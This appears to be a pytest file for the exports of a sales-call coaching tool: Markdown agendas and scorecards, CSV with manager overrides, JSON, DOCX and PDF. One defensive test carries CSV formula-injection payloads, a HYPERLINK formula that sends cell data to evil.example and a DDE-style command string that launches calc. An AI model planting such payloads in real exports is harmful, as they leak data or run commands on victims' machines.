"""Exports: agenda / scorecard Markdown, CSV with overrides, JSON round trip, DOCX and PDF files."""

from __future__ import annotations

import csv
import io
import shutil
import subprocess
from datetime import date

import pytest
from test_coach import REP, _card_with_evidence, history_of, make_methodology

from review.coach import draft_coaching
from review.coaching_models import SLED_TITLES
from review.errors import InputError
from review.render import (
    agenda_to_markdown,
    prep_note_to_markdown,
    scorecard_to_csv,
    scorecard_to_json,
    scorecard_to_markdown,
    write_text_atomic,
)
from review.render_docs import _blocks, markdown_to_docx, markdown_to_pdf, to_latin1
from review.types import EvidenceQuote, Scorecard

TITLES = list(SLED_TITLES.values())


@pytest.fixture(scope="module")
def card():
    return _card_with_evidence()


def agenda_draft():
    return draft_coaching(_card_with_evidence(), make_methodology(), history_of([2, 0, 2]), rep=REP,
                          today=date(2026, 3, 2))


@pytest.fixture(scope="module")
def agenda_md(card):
    return agenda_to_markdown(agenda_draft(), card, call_title="Acme \u2013 discovery \u201cround 1\u201d")


def test_agenda_markdown_has_four_headed_parts_in_order(agenda_md):
    headings = [line for line in agenda_md.splitlines() if line.startswith("## ")]
    sled = [h for h in headings if any(t in h for t in TITLES)]
    assert sled == [
        "## 1. Set the Stage (5 min)",
        "## 2. Lead the Performance Analysis (15 min)",
        "## 3. Explore Solution Options (10 min)",
        "## 4. Develop the Action Plan (10 min)",
    ]
    assert "| Action | Owner | Due | Criterion to watch |" in agenda_md
    assert agenda_md.count("| Action |") == 1  # not repeated after the plan
    plan = agenda_md[agenda_md.index("## 4. Develop the Action Plan"):]
    assert "| Open questions |" in plan and "open_questions" not in agenda_md  # the criterion by name, no id
    assert "## Prep note" not in agenda_md and "transcript " not in agenda_md  # the rep's document
    assert "## Prep note" in agenda_to_markdown(agenda_draft(), _card_with_evidence(), include_prep_note=True)
    assert "Acme \u2013 discovery" in agenda_md and "[01:05] Alex Rivera:" in agenda_md


def test_prep_note_markdown(card):
    draft = draft_coaching(card, make_methodology(), rep=REP, today=date(2026, 3, 2))
    note = prep_note_to_markdown(draft)
    assert note.startswith("# Prep note: Alex Rivera") and note.endswith("\n")
    assert prep_note_to_markdown(draft, card) == note
    headed = prep_note_to_markdown(draft, card, "Acme call")
    assert headed.splitlines()[0] == note.splitlines()[0]
    assert headed.splitlines()[2] == "*Acme call, scored 2026-03-01*"
    assert headed.endswith(note.split("\n", 1)[1])


def test_write_text_atomic(tmp_path):
    target = write_text_atomic(tmp_path / "agenda.md", "# \u201cHi\u201d\n")
    assert target.read_text(encoding="utf-8") == "# \u201cHi\u201d\n"
    assert not list(tmp_path.glob(".*.tmp"))


def test_scorecard_markdown(card):
    md = scorecard_to_markdown(card, "Acme call")
    assert md.startswith("# Scorecard: Acme call")
    assert "### Open questions \u2014 1/2 (partly met)" in md
    assert "- [03:32] Alex Rivera: \u201cHow do you handle returns today?\u201d" in md
    assert "| Alex Rivera | 45% |" in md and "No quote in this call." in md
    from review.overrides import apply_overrides

    names = {"Alex Rivera": "Alex Rivera (rep)", "Jordan Lee": "Customer"}
    over = scorecard_to_markdown(apply_overrides(card, {"open_questions": {"score": 2, "comment": "two follow-ups"}}),
                                 "Acme call", names)
    assert "### Open questions \u2014 2/2 (met)" in over
    assert "*Manager's score; the AI gave 1/2 (partly met): two follow-ups*" in over
    assert "- [03:32] Alex Rivera (rep): \u201cHow" in over and "| Alex Rivera (rep) | 45% |" in over
    assert "Closest moment" not in md
    copy = card.model_copy(deep=True)  # the fixture is shared
    missed = next(c for c in copy.criteria if not c.evidence)
    missed.nearest = EvidenceQuote(segment_id=9, quote="Shall we pick a date?", start=301, end=303,
                                   speaker="Alex Rivera", role="rep")
    assert "- No quote in this call.\n- Closest moment the AI found, not counted: [05:01] Alex Rivera: " \
           "\u201cShall we pick a date?\u201d" in scorecard_to_markdown(copy)


def test_csv_rows_and_overrides(card):
    rows = list(csv.DictReader(io.StringIO(scorecard_to_csv(card))))
    assert [r["id"] for r in rows] == ["agenda_set", "open_questions", "next_step"]
    assert list(rows[0]) == ["id", "name", "section", "score", "max_score", "verdict", "evidence", "rationale"]
    oq = rows[1]
    assert (oq["score"], oq["max_score"], oq["verdict"]) == ("1", "2", "partly_met")
    assert oq["evidence"] == (
        "[01:05] Alex Rivera: \u201cSo you use spreadsheets, right?\u201d | "
        "[03:32] Alex Rivera: \u201cHow do you handle returns today?\u201d"
    )
    ai = next(c for c in card.criteria if c.id == "next_step")
    new = 0 if ai.score else 2
    over = list(csv.DictReader(io.StringIO(scorecard_to_csv(card, {"next_step": {"score": new, "note": "heard, it"}}))))
    assert list(over[0])[-3:] == ["ai_score", "ai_verdict", "manager_note"]
    row = over[2]  # the manager's score where overridden, the AI's beside it
    assert (row["score"], row["verdict"]) == (str(new), "not_met" if new == 0 else "met")
    assert (row["ai_score"], row["ai_verdict"], row["manager_note"]) == (str(ai.score), ai.verdict, "heard, it")
    assert over[0]["ai_score"] == "" and over[0]["score"] == str(card.criteria[0].score)
    named = scorecard_to_csv(card, names={"Alex Rivera": "Alex Rivera (rep)"})
    assert "[01:05] Alex Rivera (rep): \u201cSo you use" in named
    with pytest.raises(InputError, match="nope"):
        scorecard_to_csv(card, {"nope": {"score": 1}})


def test_json_round_trip(card):
    assert Scorecard.model_validate_json(scorecard_to_json(card)) == card


def test_json_export_carries_overrides_beside_the_ai_original(card):
    import json

    ai = next(c for c in card.criteria if c.id == "next_step")
    new = 0 if ai.score else 2
    data = json.loads(scorecard_to_json(card, {"next_step": {"score": new, "note": "no date was agreed"}}))
    row = next(c for c in data["criteria"] if c["id"] == "next_step")
    assert (row["score"], row["ai_score"], row["ai_verdict"], row["manager_note"]) == (
        new, ai.score, ai.verdict, "no date was agreed")
    # totals are recomputed with the manager's score (the scorer's weighted sum)
    assert data["total_score"] == sum(c["weight"] * c["score"] for c in data["criteria"])
    assert data["total_score"] != sum(c.weight * c.score for c in card.criteria)
    assert Scorecard.model_validate(data).criteria[2].ai_score == ai.score


def test_markdown_blocks():
    blocks = _blocks("# T\n\n- **a** b\n1. one\n| x | y |\n|---|---|\n| 1 | 2 |\npara\nmore\n")
    assert blocks == [
        ("heading", 1, "T"),
        ("bullet", "**a** b"),
        ("number", 1, "one"),
        ("table", [["x", "y"], ["1", "2"]]),
        ("para", "para more"),
    ]


def test_docx_reopens_with_titles_bold_and_table(agenda_md, tmp_path):
    from docx import Document

    path = markdown_to_docx(agenda_md, tmp_path / "agenda.docx")
    doc = Document(str(path))
    headings = [p.text for p in doc.paragraphs if p.style.name.startswith("Heading")]
    for title in TITLES:
        assert any(title in h for h in headings), title
    assert [h for h in headings if any(t in h for t in TITLES)] == [
        f"{i}. {t} ({m} min)" for i, (t, m) in enumerate(zip(TITLES, [5, 15, 10, 10], strict=True), 1)
    ]
    assert any(r.bold and r.text == "Purpose:" for p in doc.paragraphs for r in p.runs)
    assert any(p.style.name == "List Bullet" for p in doc.paragraphs)
    assert doc.tables and doc.tables[0].cell(0, 1).text == "Owner"
    assert not list(tmp_path.glob(".*.tmp"))  # atomic write leaves no temp file


def _pdf_text(path) -> str | None:
    if not shutil.which("pdftotext"):
        return None
    return subprocess.run(["pdftotext", str(path), "-"], capture_output=True, text=True, check=True).stdout


@pytest.mark.parametrize("font", [True, False], ids=["unicode-font", "latin1-fallback"])
def test_pdf_with_unicode_text(agenda_md, tmp_path, font):
    path = markdown_to_pdf(
        agenda_md + "\nNon-Latin-1: \u2018q\u2019 \u2013 \u2014 \u2026 \u26a0 \u0141\u00f3d\u017a \u65e5\n",
        tmp_path / "agenda.pdf",
        font=font,
    )
    assert path.read_bytes()[:5] == b"%PDF-"
    text = _pdf_text(path)
    if text is not None:
        flat = " ".join(text.split())
        for title in TITLES:
            assert title in flat
        assert "Alex Rivera" in flat


def test_prep_note_fits_one_pdf_page(card, tmp_path):
    long = card.model_copy(deep=True)
    for c in long.criteria:  # long verbatim quotes, as a rambling call gives
        c.evidence = [q.model_copy(update={"quote": q.quote + " and so on" * 200}) for q in c.evidence]
    draft = draft_coaching(long, make_methodology(), history_of([0, 2]), rep=REP, today=date(2026, 3, 2))
    data = markdown_to_pdf(prep_note_to_markdown(draft, long, "Acme call"), tmp_path / "note.pdf").read_bytes()
    assert data.count(b"/Type /Page") - data.count(b"/Type /Pages") == 1
    assert "and so on \u2026\u201d" in draft.prep_note_markdown  # cut, marked, still verbatim before the cut


def test_pdf_overwrite_is_atomic(tmp_path, agenda_md, monkeypatch):
    import fpdf

    def half_written(self, name):
        with open(name, "wb") as fh:
            fh.write(b"%PDF-1.4 truncated")
        raise OSError("disk full")

    target = tmp_path / "a.pdf"
    target.write_bytes(b"old")
    monkeypatch.setattr(fpdf.FPDF, "output", half_written)
    with pytest.raises(InputError, match="cannot write .*a.pdf: disk full"):
        markdown_to_pdf(agenda_md, target)
    assert target.read_bytes() == b"old"
    assert not list(tmp_path.glob(".*.tmp"))
    with pytest.raises(InputError, match="does not exist"):
        markdown_to_pdf("# x", tmp_path / "missing" / "a.pdf")


def test_to_latin1():
    assert to_latin1("\u201cHi\u201d \u2013 caf\u00e9 \u0141\u00f3d\u017a \u65e5") == '"Hi" - caf\u00e9 L\u00f3dz ?'


def test_csv_escapes_formula_cells_owasp(card):
    """A rationale or manager note a spreadsheet would run (=HYPERLINK, @SUM, +, -, tab, CR) stays text."""
    hostile = card.model_copy(deep=True)
    hostile.criteria[0].rationale = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
    hostile.criteria[1].rationale = "@SUM(1+1)*cmd|' /C calc'!A0"
    notes = {"agenda_set": {"score": 1, "note": "+1 good"}, "open_questions": {"score": 2, "note": "-2+3"},
             "next_step": {"score": 0, "note": "\tTAB"}}
    rows = list(csv.DictReader(io.StringIO(scorecard_to_csv(hostile, notes))))
    assert rows[0]["rationale"] == "'=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")"
    assert rows[1]["rationale"].startswith("'@SUM")
    assert [r["manager_note"] for r in rows] == ["'+1 good", "'-2+3", "'\tTAB"]
    assert [r["score"] for r in rows] == ["1", "2", "0"]  # plain numbers are not touched
    for row in rows:
        for value in row.values():
            assert not value.startswith(("=", "+", "@", "\t", "\r")) and not value.startswith("-")


def test_prep_note_exports_as_docx_and_pdf_with_display_names(card, tmp_path):
    from docx import Document

    from review.speaker_names import relabel_quotes

    note = relabel_quotes(prep_note_to_markdown(agenda_draft(), card, "Acme call"), {"Alex Rivera": "Alex Rivera (rep)"})
    doc = Document(str(markdown_to_docx(note, tmp_path / "note.docx")))
    text = "\n".join(p.text for p in doc.paragraphs)
    assert text.startswith("Prep note: Alex Rivera") and "Alex Rivera (rep): \u201c" in text and "ROAM" in text
    pdf = markdown_to_pdf(note, tmp_path / "note.pdf")
    assert pdf.read_bytes()[:5] == b"%PDF-"
    extracted = _pdf_text(pdf)
    if extracted is not None:
        assert "Alex Rivera (rep)" in " ".join(extracted.split())


def test_quoted_moments_read_back_what_format_quote_wrote():
    """The coaching page's play buttons come from the quotes in a (possibly edited) document."""
    from review.render import QuotedMoment, format_quote, quoted_moments
    from review.types import EvidenceQuote

    late = EvidenceQuote(segment_id=9, quote="We lose *ten* hours", start=3723.4, end=3726.0, speaker="speaker_2",
                         role="customer")
    early = EvidenceQuote(segment_id=1, quote="Does that work?", start=5.0, end=6.0, speaker="speaker_1", role="rep")
    text = (f"- {format_quote(late, markdown=True)}\n- {format_quote(early, markdown=True)}\n"
            f"- again {format_quote(late, markdown=True)}\n- [00:75] x: \u201cnot a time\u201d\n- [00:07] no quote here")
    assert quoted_moments(text) == [QuotedMoment(3723.0, "speaker\\_2", "We lose \\*ten\\* hours"),
                                    QuotedMoment(5.0, "speaker\\_1", "Does that work?")]
    assert quoted_moments("") == [] and quoted_moments("Ask about [the budget]: \u201cx\u201d") == []
